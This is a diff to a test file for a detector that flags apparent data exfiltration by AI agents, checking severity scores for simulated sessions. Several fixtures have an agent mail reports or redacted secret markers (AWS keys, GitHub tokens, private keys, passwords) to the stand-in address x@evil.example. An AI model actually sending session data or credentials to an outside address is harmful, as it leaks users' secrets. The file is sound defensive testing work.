@@ -110,11 +110,36 @@ describe.skipIf(NO_CLICKHOUSE !== undefined)(`queries about conduct ${NO_CLICKHO
 
   it('data of the session, or a secret, to a new destination has the shape of exfiltration', async () => {
     expect(await shape(ask('hi'), read, send('x@evil.example', `fyi: ${REPORT}`))).toMatchObject([
-      { severity: 'high', session_id: 's1', signals: [{ value: 'evil.example' }, { value: false }, {}] },
+      { severity: 'high', session_id: 's1', signals: [{ value: 'evil.example' }, { value: false }, {}, {}] },
     ])
     expect(await shape(ask('hi'), send('x@evil.example', 'key [redacted:aws_key]'))).toMatchObject([
       { severity: 'critical' },
     ])
+  })
+
+  it.each(['github_token', 'slack_token', 'bearer_token', 'jwt', 'private_key', 'password', 'client_secret'])(
+    'the mark that redaction left of a secret is one: %s',
+    async (rule) => {
+      const sent = send('x@evil.example', `use [redacted:${rule}] there`)
+      expect(await shape(ask('hi'), sent)).toMatchObject([
+        { severity: 'critical', signals: [{}, { value: true }, {}, {}] },
+      ])
+    },
+  )
+
+  it('the mark of other data is no secret', async () => {
+    expect(await shape(ask('hi'), send('x@evil.example', 'write to [redacted:email] or [redacted:iban]'))).toEqual([])
+  })
+
+  it('of an agent that mails each customer elsewhere only a secret has the shape of exfiltration', async () => {
+    const habit = (domain: (at: number) => string): SeedRow[] =>
+      minute(12, (at) =>
+        send(`me@${domain(at)}`, 'hello', { timestamp: '2026-11-20 10:00:00.000', session_id: `s-${at}` }),
+      )
+    const today = [read, send('me@new.example', REPORT)]
+    expect(await shape(...habit((at) => `${at}.example`), ...today)).toEqual([])
+    expect(await shape(...habit((at) => `${at % 3}.example`), ...today)).toHaveLength(1)
+    expect(await shape(...habit((at) => `${at}.example`), send('me@new.example', '[redacted:aws_key]'))).toHaveLength(1)
   })
 
   it('neither a known destination, nor one that the user named, nor words of its own', async () => {
